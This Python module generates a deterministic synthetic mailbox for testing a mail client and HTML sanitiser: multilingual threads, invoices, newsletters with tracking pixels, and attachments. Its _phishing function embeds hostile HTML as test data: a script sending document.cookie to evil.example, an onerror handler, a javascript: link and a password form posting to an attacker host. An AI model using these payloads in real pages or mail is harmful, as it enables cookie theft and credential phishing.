"""Generate a deterministic, realistic mailbox: threads, attachments, newsletters, traps.

The same arguments always give the same bytes. Messages are real RFC 5322 / MIME texts
with CRLF line endings; headers, encoded-words, RFC 2231 filenames and body encodings are
produced by the stdlib ``email`` package's encoders (``email.header``, ``email.charset``,
``email.base64mime``, ``email.utils``), while the part tree is assembled directly, which
keeps a thousand messages well under a second.

The mix covers what a mail client and a privacy guard must handle: Indonesian and other
non-ASCII text, multipart/alternative, PDF/CSV/PNG attachments, inline ``cid:`` images,
newsletters with a remote tracking pixel and List-Unsubscribe, and a few messages with
dangerous HTML (``<script>``, ``onerror``, ``javascript:`` links) for sanitiser tests.
"""

from __future__ import annotations

import hashlib
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import base64mime
from email.charset import QP, Charset
from email.header import Header
from email.utils import encode_rfc2231, format_datetime, formataddr

DEMO_ACCOUNTS: tuple[tuple[str, str], ...] = (
    ("ayu@qontak-demo.test", "Ayu Lestari"),
    ("budi@qontak-demo.test", "Budi Santoso"),
    ("siti@qontak-demo.test", "Siti Rahayu"),
)
"""(email, display name) of the demo users."""

USER_LABELS: tuple[str, ...] = (
    "Clients", "Invoices", "Travel", "Team/Jakarta", "Newsletters", "Receipts",
)

SPAN_DAYS = 90
_WIB = timezone(timedelta(hours=7))
_UTF8_QP = Charset("utf-8")
_UTF8_QP.body_encoding = QP


@dataclass(frozen=True, slots=True)
class SeedMessage:
    """One generated message: its raw bytes, label ids and Gmail internal date (seconds).

    ``label_ids`` holds system ids (``INBOX``, ``SENT``...) and user labels as
    ``user:<name>``; the caller maps names to its own label ids.
    """

    raw: bytes
    label_ids: tuple[str, ...]
    internal_date: float


@dataclass(frozen=True, slots=True)
class SeededMailbox:
    """A generated mailbox: user label names to create and messages, oldest first."""

    labels: tuple[str, ...]
    messages: tuple[SeedMessage, ...]


@dataclass(frozen=True, slots=True)
class _Contact:
    name: str
    email: str


_CONTACTS = (
    _Contact("Siti Rahayu", "siti.rahayu@nusantara-logistik.test"),
    _Contact("Budi Santoso", "budi.santoso@nusantara-logistik.test"),
    _Contact("Ayu Lestari", "ayu.lestari@kopi-senja.test"),
    _Contact("Dewi Anggraini", "dewi@anggraini-konsultan.test"),
    _Contact("Rizky Pratama", "rizky.pratama@nusantara-logistik.test"),
    _Contact("I Made Wirawan", "made.wirawan@bali-tour.test"),
    _Contact("José Álvarez", "jose.alvarez@example.com"),
    _Contact("Zoë Müller", "zoe.mueller@example.org"),
    _Contact("Nguyễn Thị Hoa", "hoa.nguyen@example.net"),
    _Contact("王芳", "wang.fang@example.com"),
)
_NEWSLETTERS = (
    _Contact("Nusantara Deals", "promo@deals.example"),
    _Contact("Tech Weekly", "newsletter@techweekly.example"),
    _Contact("Warung Kopi Senja", "kabar@kopi-senja.test"),
)


@dataclass(slots=True)
class _Body:
    """What one message says, before MIME assembly."""

    plain: str | None
    html: str | None = None
    attachments: list[tuple[str, str, bytes]] = field(default_factory=list)
    inline: list[tuple[str, str, bytes]] = field(default_factory=list)  # (cid, name, png)
    extra_headers: list[tuple[str, str]] = field(default_factory=list)


@dataclass(frozen=True, slots=True)
class _Kind:
    """A kind of conversation: how long, which labels, and what each message says."""

    name: str
    weight: float
    subjects: tuple[str, ...]
    length: tuple[int, int]
    labels: tuple[str, ...]
    body: Callable[[random.Random, int, _Contact, str], _Body]
    owner_may_start: bool = True
    senders: tuple[_Contact, ...] = ()


def generate_mailbox(
    owner_email: str, owner_name: str, count: int, *, seed: int = 0, now: float
) -> SeededMailbox:
    """Return ``count`` messages in threads spread over the last 90 days before ``now``."""
    if count < 0:
        raise ValueError("count must be zero or more messages")
    rng = random.Random(f"mailguard-seed:{seed}:{owner_email.lower()}")
    owner = _Contact(owner_name, owner_email)
    contacts = [c for c in _CONTACTS if c.name != owner_name and c.email != owner_email]
    weights = [kind.weight for kind in _KINDS]
    messages: list[SeedMessage] = []
    serial = 0
    while len(messages) < count:
        kind = rng.choices(_KINDS, weights)[0]
        one_way = kind.length == (1, 1)
        peer = rng.choice(kind.senders or contacts)
        cc = [c for c in rng.sample(contacts, 2) if c != peer] if rng.random() < 0.3 else []
        subject = rng.choice(kind.subjects)
        length = min(rng.randint(*kind.length), count - len(messages))
        owner_turn = kind.owner_may_start and rng.random() < 0.2
        when = float(round(now - rng.uniform(3600.0, SPAN_DAYS * 86400.0)))
        references: list[str] = []
        previous: tuple[str, str, float] | None = None  # (sender name, quoted text, date)
        for position in range(length):
            serial += 1
            sender, recipient = (owner, peer) if owner_turn else (peer, owner)
            body = kind.body(rng, position, sender, subject)
            if previous is not None and body.plain is not None:
                body.plain += _quote(*previous)
            message_id = f"<{rng.getrandbits(64):016x}.{serial}@{sender.email.split('@')[1]}>"
            labels = _labels(rng, kind, sent=owner_turn, when=when, now=now)
            raw = _render_message(
                rng,
                sender=sender,
                to=[recipient],
                cc=cc if position == 0 else [],
                bcc=[contacts[serial % len(contacts)]] if owner_turn and serial % 7 == 0 else [],
                subject=("Re: " + subject) if position else subject,
                when=when,
                message_id=message_id,
                references=references,
                delivered_to=None if owner_turn else owner.email,
                body=body,
            )
            messages.append(SeedMessage(raw=raw, label_ids=labels, internal_date=when))
            references = [*references, message_id]
            previous = (sender.name, body.plain or "", when)
            when = float(round(min(now - 60.0, when + rng.uniform(600.0, 2 * 86400.0))))
            owner_turn = not owner_turn and not one_way
    messages.sort(key=lambda m: m.internal_date)
    return SeededMailbox(labels=USER_LABELS, messages=tuple(messages))


def _labels(rng: random.Random, kind: _Kind, *, sent: bool, when: float,
            now: float) -> tuple[str, ...]:
    """Choose label ids for one message of ``kind``."""
    if sent:
        labels = ["SENT"]
        labels += [name for name in kind.labels if name.startswith("user:")]
        return tuple(labels)
    labels = ["INBOX", *kind.labels]
    if kind.name == "phishing" and rng.random() < 0.5:
        labels = ["SPAM"]
    elif kind.name == "personal" and rng.random() < 0.08:
        labels = ["TRASH", *kind.labels]
    recent = now - when < 14 * 86400
    if rng.random() < (0.6 if recent else 0.1):
        labels.append("UNREAD")
    if rng.random() < 0.07 and "SPAM" not in labels:
        labels.append("STARRED")
    return tuple(labels)


def _quote(name: str, text: str, when: float) -> str:
    """Return the quoted previous message, as mail clients add under a reply."""
    stamp = datetime.fromtimestamp(when, _WIB).strftime("%d %b %Y %H.%M")
    quoted = "\n".join("> " + line for line in text.splitlines()[:8])
    return f"\n\nPada {stamp}, {name} menulis:\n{quoted}\n"


# -- message bodies ---------------------------------------------------------------------


def _meeting(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    day = rng.choice(["Senin", "Selasa", "Rabu", "Kamis", "Jumat"])
    hour = rng.randint(9, 16)
    replies = [
        f"Halo tim,\n\nKita adakan rapat hari {day} pukul {hour}.00 WIB di ruang Merapi "
        f"lantai 3. Agenda: anggaran kuartal, target penjualan, dan rencana kantor Jakarta.\n\n"
        f"Mohon siapkan data masing-masing.\n\nSalam,\n{sender.name}",
        f"Terima kasih, saya bisa hadir. Saya akan bawa ringkasan biaya operasional.\n\n"
        f"{sender.name}",
        f"Bisa dimundurkan ke pukul {hour + 1}.00? Saya ada panggilan dengan klien "
        f"sebelumnya.\n\nSalam,\n{sender.name}",
        f"Oke, jadwal baru sudah saya kirim. Sampai jumpa!\n\n{sender.name}",
    ]
    plain = replies[min(position, len(replies) - 1)]
    html = "<div dir=\"ltr\">" + "".join(
        f"<p>{line}</p>" for line in plain.split("\n\n")
    ) + "</div>"
    return _Body(plain=plain, html=html)


def _invoice(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    number = f"INV-{rng.randint(2024, 2025)}-{rng.randint(1, 9999):04d}"
    amount = rng.randint(5, 250) * 100_000
    if position:
        return _Body(plain=f"Terima kasih, pembayaran untuk {number} sudah kami proses.\n\n"
                           f"{sender.name}")
    plain = (
        f"Yth. Bapak/Ibu,\n\nBersama ini kami kirimkan tagihan {number} sebesar "
        f"Rp {amount:,}".replace(",", ".") + ".\nJatuh tempo: 14 hari sejak tanggal tagihan.\n\n"
        f"Hormat kami,\n{sender.name}"
    )
    return _Body(plain=plain, attachments=[
        (f"{number}.pdf", "application/pdf", _pdf(rng, f"Tagihan {number}")),
    ])


def _client(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    if position == 0:
        plain = (
            f"Hi,\n\nAttached is the updated pipeline for next quarter. The numbers for "
            f"Surabaya and Medan moved a bit since our last call.\n\nBest regards,\n{sender.name}"
        )
        csv_name = "Rincian biaya – Jakarta.csv" if rng.random() < 0.4 else "pipeline-q3.csv"
        return _Body(plain=plain, html="<p>" + plain.replace("\n\n", "</p><p>") + "</p>",
                     attachments=[(csv_name, "text/csv", _csv(rng))])
    options = [
        f"Thanks! Could we review the Medan figures on Thursday?\n\n{sender.name}",
        f"Looks good to me. I'll forward it to finance.\n\n{sender.name}",
        f"One question about the discount on line 4 — is that final?\n\n{sender.name}",
    ]
    return _Body(plain=rng.choice(options))


def _travel(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    code = "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
    cid = f"logo.{rng.getrandbits(40):010x}@bali-tour.test"
    plain = (f"Itinerary {code}\nJakarta (CGK) → Denpasar (DPS)\nBoarding 07.15 WIB, "
             f"gate 4\n\nSelamat jalan!")
    html = (
        f'<html><body><img src="cid:{cid}" alt="Bali Tour" width="120">'
        f"<h2>Itinerary {code}</h2><p>Jakarta (CGK) &rarr; Denpasar (DPS)</p>"
        f"<p>Boarding 07.15 WIB, gate 4</p><p>Selamat jalan!</p></body></html>"
    )
    return _Body(plain=plain, html=html, inline=[(cid, "logo.png", _png(rng, 24))])


def _newsletter(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    token = hashlib.sha256(str(rng.random()).encode()).hexdigest()[:24]
    domain = sender.email.split("@")[1]
    discount = rng.choice([10, 20, 25, 50])
    plain = (f"Diskon {discount}% untuk semua produk minggu ini!\n\nBelanja sekarang: "
             f"https://{domain}/promo\n\nBerhenti berlangganan: https://{domain}/unsub/{token}")
    html = (
        f"<html><body><h1>Diskon {discount}%</h1><p>Untuk semua produk minggu ini!</p>"
        f'<p><a href="https://{domain}/promo?utm_source=email">Belanja sekarang</a></p>'
        f'<img src="https://tracker.example/open/{token}.gif" width="1" height="1" alt="">'
        f'<p><a href="https://{domain}/unsub/{token}">Berhenti berlangganan</a></p>'
        "</body></html>"
    )
    return _Body(plain=plain, html=html, extra_headers=[
        ("List-Id", f"{sender.name} <news.{domain}>"),
        ("List-Unsubscribe", f"<https://{domain}/unsub/{token}>, "
                             f"<mailto:unsubscribe@{domain}?subject={token}>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
    ])


def _photos(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    count = rng.randint(1, 3)
    return _Body(
        plain=f"Ini foto-foto dari acara kemarin 😊\n\n{sender.name}",
        attachments=[(f"IMG_{rng.randint(1000, 9999)}.png", "image/png", _png(rng, 36))
                     for _ in range(count)],
    )


def _phishing(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    html = (
        "<html><body><p>Akun Anda akan diblokir dalam 24 jam.</p>"
        "<script>document.location='https://evil.example/steal?c='+document.cookie</script>"
        '<img src="https://evil.example/x.png" onerror="alert(document.domain)">'
        '<p><a href="javascript:alert(\'verifikasi\')">Verifikasi sekarang</a></p>'
        '<form action="https://evil.example/login"><input name="password"></form>'
        "</body></html>"
    )
    return _Body(plain=None, html=html)


def _personal(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    options = [
        "Apa kabar? Besok ngopi di kafé dekat kantor, jam 4 sore? ☕",
        "¡Hola! Nos vemos el jueves en la reunión. Saludos desde Bogotá.",
        "Grüße aus München! Die Präsentation war großartig.",
        "Selamat ulang tahun! Semoga sehat selalu dan sukses. 🎉",
        "Chúc mừng năm mới! Hẹn gặp lại ở Jakarta.",
    ]
    return _Body(plain=f"{rng.choice(options)}\n\n{sender.name}")


def _receipt(rng: random.Random, position: int, sender: _Contact, subject: str) -> _Body:
    amount = rng.randint(20, 900) * 1000
    html = (
        "<html><body><table><tr><td>Tanda terima pembayaran</td></tr>"
        f"<tr><td>Total: Rp&nbsp;{amount:,}</td></tr>".replace(",", ".")
        + "<tr><td>Terima kasih &amp; sampai jumpa lagi!</td></tr></table></body></html>"
    )
    return _Body(plain=None, html=html)


_KINDS: tuple[_Kind, ...] = (
    _Kind("meeting", 2.5, ("Rapat anggaran kuartal", "Jadwal rapat tim Jakarta",
                         "Rencana kerja minggu depan"), (2, 5),
          ("user:Team/Jakarta", "CATEGORY_PERSONAL"), _meeting),
    _Kind("invoice", 2, ("Tagihan bulan ini", "Invoice pembayaran layanan"), (1, 2),
          ("user:Invoices", "IMPORTANT", "CATEGORY_UPDATES"), _invoice, owner_may_start=False),
    _Kind("client", 3, ("Q3 pipeline update", "Proposal revisi — PT Nusantara",
                        "Contract renewal"), (2, 4),
          ("user:Clients", "IMPORTANT", "CATEGORY_PERSONAL"), _client),
    _Kind("travel", 1.5, ("Itinerary perjalanan Anda", "Konfirmasi pemesanan hotel"), (1, 1),
          ("user:Travel", "CATEGORY_UPDATES"), _travel, owner_may_start=False,
          senders=(_Contact("Bali Tour & Travel", "booking@bali-tour.test"),)),
    _Kind("newsletter", 3, ("Promo akhir pekan 🔥", "This week in tech", "Kabar terbaru"),
          (1, 1), ("user:Newsletters", "CATEGORY_PROMOTIONS"), _newsletter,
          owner_may_start=False, senders=_NEWSLETTERS),
    _Kind("photos", 1, ("Foto acara 🎉", "Foto-foto kemarin"), (1, 3),
          ("CATEGORY_SOCIAL",), _photos),
    _Kind("phishing", 0.7, ("Verifikasi akun Anda segera", "Security alert: confirm now"),
          (1, 1), ("CATEGORY_UPDATES",), _phishing, owner_may_start=False,
          senders=(_Contact("Tim Keamanan Akun", "security@akun-verifikasi.example"),)),
    _Kind("personal", 2, ("Café besok? ☕", "Salam dari Bogotá", "Selamat ulang tahun!"),
          (1, 3), ("CATEGORY_PERSONAL",), _personal),
    _Kind("receipt", 1.5, ("Tanda terima pembayaran", "Your receipt"), (1, 1),
          ("user:Receipts", "CATEGORY_UPDATES"), _receipt, owner_may_start=False,
          senders=(_Contact("Warung Kopi Senja", "struk@kopi-senja.test"),)),
)


# -- MIME assembly ------------------------------------------------------------------------


def _render_message(
    rng: random.Random,
    *,
    sender: _Contact,
    to: list[_Contact],
    cc: list[_Contact],
    bcc: list[_Contact],
    subject: str,
    when: float,
    message_id: str,
    references: list[str],
    delivered_to: str | None,
    body: _Body,
) -> bytes:
    """Assemble one message's bytes."""
    headers: list[tuple[str, str]] = []
    if delivered_to:
        headers.append(("Delivered-To", delivered_to))
    headers += [
        ("From", _address(sender)),
        ("To", ", ".join(_address(c) for c in to)),
    ]
    if cc:
        headers.append(("Cc", ", ".join(_address(c) for c in cc)))
    if bcc:
        headers.append(("Bcc", ", ".join(_address(c) for c in bcc)))
    headers += [
        ("Subject", _header_text("Subject", subject)),
        ("Date", format_datetime(datetime.fromtimestamp(when, _WIB))),
        ("Message-ID", message_id),
    ]
    if references:
        headers.append(("In-Reply-To", references[-1]))
        headers.append(("References", "\r\n ".join(references[-10:])))
    headers += body.extra_headers
    headers.append(("MIME-Version", "1.0"))
    top = "".join(f"{name}: {value}\r\n" for name, value in headers).encode("ascii")
    return top + _body_part(rng, body)


def _body_part(rng: random.Random, body: _Body) -> bytes:
    """Return the MIME entity (headers and content) for the message body."""
    html = body.html
    html_part = None
    if html is not None:
        html_part = _text_part(html, "html")
        if body.inline:
            images = [_binary_part(data, "image/png", name, "inline", cid=cid)
                      for cid, name, data in body.inline]
            html_part = _multipart(rng, "related", [html_part, *images])
    if body.plain is not None and html_part is not None:
        main = _multipart(rng, "alternative", [_text_part(body.plain, "plain"), html_part])
    elif html_part is not None:
        main = html_part
    else:
        main = _text_part(body.plain or "", "plain")
    if not body.attachments:
        return main
    files = [_binary_part(data, mime, name, "attachment") for name, mime, data in body.attachments]
    return _multipart(rng, "mixed", [main, *files])


def _text_part(text: str, subtype: str) -> bytes:
    """Return a UTF-8 text part, quoted-printable encoded when it is not plain ASCII."""
    if text.isascii() and all(len(line) < 900 for line in text.split("\n")):
        head = f'Content-Type: text/{subtype}; charset="UTF-8"\r\nContent-Transfer-Encoding: 7bit'
        return f"{head}\r\n\r\n{text.replace(chr(10), chr(13) + chr(10))}\r\n".encode("ascii")
    encoded = _UTF8_QP.body_encode(text) or ""
    head = (f'Content-Type: text/{subtype}; charset="UTF-8"\r\n'
            "Content-Transfer-Encoding: quoted-printable")
    return f"{head}\r\n\r\n{encoded.replace(chr(10), chr(13) + chr(10))}\r\n".encode("ascii")


def _binary_part(data: bytes, mime: str, filename: str, disposition: str,
                 cid: str | None = None) -> bytes:
    """Return a base64 part with a filename (RFC 2231 encoded when not ASCII)."""
    if filename.isascii():
        name_param = f'name="{filename}"'
        file_param = f'filename="{filename}"'
    else:
        name_param = f"name*={encode_rfc2231(filename, 'utf-8')}"
        file_param = f"filename*={encode_rfc2231(filename, 'utf-8')}"
    lines = [
        f"Content-Type: {mime}; {name_param}",
        f"Content-Disposition: {disposition}; {file_param}",
        "Content-Transfer-Encoding: base64",
    ]
    if cid:
        lines.append(f"Content-ID: <{cid}>")
    encoded = base64mime.body_encode(data, maxlinelen=76, eol="\r\n")
    return ("\r\n".join(lines) + "\r\n\r\n" + encoded).encode("ascii")


def _multipart(rng: random.Random, subtype: str, children: list[bytes]) -> bytes:
    """Join ``children`` under a deterministic boundary."""
    boundary = f"000000000000{rng.getrandbits(48):012x}"
    out = [f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode("ascii")]
    for child in children:
        out.append(f"--{boundary}\r\n".encode("ascii"))
        out.append(child if child.endswith(b"\r\n") else child + b"\r\n")
    out.append(f"--{boundary}--\r\n".encode("ascii"))
    return b"".join(out)


def _address(contact: _Contact) -> str:
    """Format a contact, encoding a non-ASCII display name as an RFC 2047 word."""
    return formataddr((contact.name, contact.email), charset="utf-8")


def _header_text(name: str, value: str) -> str:
    """Return a header value, as encoded-words when it is not ASCII."""
    if value.isascii():
        return value
    return Header(value, "utf-8", header_name=name).encode(linesep="\r\n")


# -- generated attachment bytes ---------------------------------------------------------


def _png(rng: random.Random, side: int) -> bytes:
    """Return a valid ``side``×``side`` RGB PNG with noisy, deterministic pixels."""
    base = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
    rows = []
    for y in range(side):
        row = bytearray(b"\x00")
        for x in range(side):
            noise = rng.getrandbits(6)
            row += bytes(((base[0] + x * 4 + noise) & 255, (base[1] + y * 4) & 255,
                          (base[2] + noise * 3) & 255))
        rows.append(bytes(row))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"".join(rows), 6)) + chunk(b"IEND", b""))


def _pdf(rng: random.Random, title: str) -> bytes:
    """Return a small, valid one-page PDF showing ``title`` and a table of amounts."""
    lines = [f"({title}) Tj"] + [
        f"0 -18 Td (Item {i + 1}: Rp {rng.randint(1, 99) * 10000}) Tj" for i in range(40)
    ]
    stream = ("BT /F1 12 Tf 72 760 Td " + " ".join(lines) + " ET").encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def _csv(rng: random.Random) -> bytes:
    """Return a CSV of a sales pipeline."""
    cities = ["Jakarta", "Surabaya", "Medan", "Bandung", "Makassar", "Denpasar"]
    rows = ["kota,produk,jumlah,nilai_rp"]
    for _ in range(60):
        rows.append(f"{rng.choice(cities)},Paket {rng.choice('ABCD')},{rng.randint(1, 90)},"
                    f"{rng.randint(1, 500) * 100000}")
    return ("\r\n".join(rows) + "\r\n").encode("utf-8")
